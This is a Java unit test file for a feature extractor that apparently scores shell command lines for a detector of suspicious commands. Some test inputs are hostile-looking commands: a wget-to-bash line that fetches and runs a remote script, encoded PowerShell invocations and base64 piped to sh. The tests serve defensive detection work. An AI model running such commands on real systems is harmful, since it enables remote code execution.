package dev.longtail.udfs.features;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import com.fasterxml.jackson.databind.JsonNode;
import dev.longtail.udfs.io.JsonLines;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ExpertFeaturesTest {
  private final ExpertFeatures features = new ExpertFeatures();

  @Test
  void agreesWithAnIndependentImplementationOnRealLines() {
    Path golden = Path.of("../../shared/data/features/expert_golden.jsonl.gz");
    Assumptions.assumeTrue(Files.exists(golden), "no golden features beside the checkout");
    AtomicInteger lines = new AtomicInteger();
    JsonLines.forEach(
        golden,
        (record, where) -> {
          Map<String, Double> ours = features.named(JsonLines.commandLine(record, where));
          for (String name :
              List.of(
                  "length",
                  "entropy_bits",
                  "operator_proportion",
                  "upper_proportion",
                  "lower_proportion")) {
            assertThat(ours.get(name))
                .as("%s of %s", name, where)
                .isCloseTo(record.get(name).asDouble(), within(1e-9));
          }
          record
              .get("markers")
              .properties()
              .forEach(
                  marker ->
                      assertThat(ours.get("marker_" + marker.getKey()))
                          .as("%s of %s", marker.getKey(), where)
                          .isEqualTo(marker.getValue().asDouble()));
          record
              .get("char_counts")
              .properties()
              .forEach(
                  count ->
                      assertThat(
                              ours.get(
                                  String.format("char_0x%02x", (int) count.getKey().charAt(0))))
                          .isEqualTo(count.getValue().asDouble()));
          List<String> tokens = new ArrayList<>();
          for (JsonNode token : record.get("tokens")) {
            tokens.add(token.textValue());
          }
          assertThat(Tokens.of(JsonLines.commandLine(record, where))).isEqualTo(tokens);
          lines.incrementAndGet();
        });
    assertThat(lines).hasValueGreaterThan(500);
  }

  @Test
  void countsOccurrencesWithoutOverlap() {
    assertThat(of("\"\"\"\" ;;; SET&&&", "marker_batch")).isEqualTo(2 + 1 + 1 + 1);
    assertThat(of("powershell -ENC aa", "marker_encoded")).isEqualTo(1);
    assertThat(of("&&for %a in (x)", "marker_batch")).isEqualTo(3);
  }

  @Test
  void anEmptyLineHasNoFeatures() {
    double[] values = new double[ExpertFeatures.count()];
    features.extract("", values);
    assertThat(values).containsOnly(0);
  }

  @Test
  void countsCharactersNotCodeUnits() {
    assertThat(of("a😀b", "length")).isEqualTo(3);
    assertThat(of("😀😀", "entropy_bits")).isZero();
    assertThat(of("ÄÖ", "upper_proportion")).isEqualTo(1);
  }

  @Test
  void anInstanceForgetsTheLineBefore() {
    Map<String, Double> fresh = new ExpertFeatures().named("whoami /all");
    features.named("powershell -enc " + "QUJDabc1".repeat(20) + " ü http://a.com/x.exe");
    assertThat(features.named("whoami /all")).isEqualTo(fresh);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "powershell -EncodedCommand aQBlAHgA",
        "echo SGVsbG8gd29ybGQ3SGVsbG8gd29ybGQ3SGVsbG8gd29ybGQ3 | sh",
        "printf '\\x41\\x42\\x43\\x44'",
        "openssl enc -aes-256-cbc -in a -out b",
      })
  void findsDeliberateEncoding(String line) {
    assertThat(of(line, "test_encoding")).isEqualTo(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/usr/lib/jvm/java17/bin/java -jar /opt/Application/Server9/lib/main.jar",
        "git checkout 3f786850e387550fdab836ed7e6dc881de23001b",
        "cmd /c dir",
      })
  void pathsAndDigestsAreNoEncoding(String line) {
    assertThat(of(line, "test_encoding")).isZero();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "copy C:\\a\\b.txt D:\\c\\d.txt",
        "cp /etc/hosts /tmp/hosts",
        "xcopy \"%TEMP%\\a\" \"C:\\Program Files\\b\"",
        "mv ~/a.txt ./b.txt",
      })
  void findsSeveralPaths(String line) {
    assertThat(of(line, "test_paths")).isEqualTo(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"schtasks /create /tn x", "del C:\\a\\*.txt C:\\b\\*.log", "cat /etc/hosts"})
  void switchesAndWildcardsAreNoPaths(String line) {
    assertThat(of(line, "test_paths")).isZero();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -O https://files.example.com/tool/setup.exe?x=1",
        "\\\\fileserver\\share\\install.msi /quiet",
        "bash -c $(wget -qO- http://203.0.113.7:8080/run.sh)",
      })
  void findsRemoteExecutables(String line) {
    assertThat(of(line, "test_remote_executable")).isEqualTo(1);
  }

  @Test
  void aHostWithALocalPath() {
    assertThat(of("scp admin@backup01:/srv/x /var/tmp/x", "test_host_and_path")).isEqualTo(1);
    assertThat(of("curl http://example.com/a -o /tmp/d/a", "test_host_and_path")).isEqualTo(1);
    assertThat(of("curl http://a.com http://b.com -o /tmp/d/a", "test_host_and_path")).isZero();
    assertThat(of("curl http://a.com/x http://A.com/y -o /tmp/d/a", "test_host_and_path"))
        .isEqualTo(1);
    assertThat(of("ping 192.0.2.7", "test_host_and_path")).isZero();
    assertThat(of("curl http://localhost:8080 -o /tmp/d/a", "test_host_and_path")).isZero();
  }

  @Test
  void namesAreUnique() {
    assertThat(ExpertFeatures.describe()).extracting(Feature::name).doesNotHaveDuplicates();
    assertThat(ExpertFeatures.describe()).hasSize(ExpertFeatures.count());
  }

  private double of(String line, String feature) {
    return features.named(line).getOrDefault(feature, 0.0);
  }
}
